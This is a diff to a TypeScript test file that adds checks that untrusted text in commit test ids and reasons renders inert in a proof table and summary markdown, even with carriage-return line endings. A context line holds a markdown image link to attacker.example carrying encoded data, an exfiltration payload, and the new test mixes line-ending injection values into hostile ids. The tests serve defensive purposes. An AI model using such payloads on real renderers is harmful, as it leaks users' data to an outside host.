@@ -133,3 +133,24 @@ describe('untrusted text renders inert on every surface (issue 36 point 2)', () 
     expect(html).toContain('<code>t.![p](https://attacker.example/p.png?d=UkVBRE1F)</code>')
   })
 })
+
+describe('untrusted text renders inert whatever ends its lines (attack round)', () => {
+  const withId = (id: string, reason: string): Commit => ({
+    ...commit,
+    verification: {
+      ...commit.verification!,
+      reason,
+      tests: [{ id, base: 'failed', after: 'passed' }]
+    }
+  })
+
+  it.each([
+    ['a lone CR', '\r'],
+    ['two lone CRs', '\r\r'],
+    ['CR LF twice', '\r\n\r\n']
+  ])('%s in a test id or a reason stays inside its cell or code span', (_name, end) => {
+    const hostile = withId(`t${end}${EXFIL}`, `reason${end}${end}${EXFIL}`)
+    expectInert(proofTable(hostile))
+    expectInert(summaryMarkdown({ ...response, data: [hostile] }))
+  })
+})
